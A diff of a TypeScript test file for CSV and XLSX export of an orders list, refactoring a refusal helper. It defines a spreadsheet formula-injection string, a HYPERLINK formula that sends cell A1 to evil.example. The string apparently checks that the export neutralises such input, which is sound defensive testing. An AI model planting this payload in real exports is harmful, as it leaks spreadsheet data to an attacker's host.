@@ -1,10 +1,11 @@
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
-import { ApiError, type TernClient } from '@tern/sdk';
+import type { TernClient } from '@tern/sdk';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { neutralise } from '../src/services/giftCards/export.js';
+import { refusedWith } from './helpers/refusal.js';
 import { startTestServer, type TestServer } from './helpers/server.js';
 
 // The orders list as CSV and XLSX (document 3 §2.3 export menu, §7 exportFormat): the list's filters, every
@@ -18,15 +19,7 @@ let propertyId: string;
 let typeId: string;
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 
-const refusal = async (call: Promise<unknown>) => {
-  try {
-    await call;
-  } catch (error) {
-    if (error instanceof ApiError) return { status: error.status, code: error.code };
-    throw error;
-  }
-  throw new Error('expected a refusal');
-};
+const refusal = refusedWith;
 
 /** A file reply: the client hands back the blob and its name (the contract types `file` replies loosely). */
 const download = async (
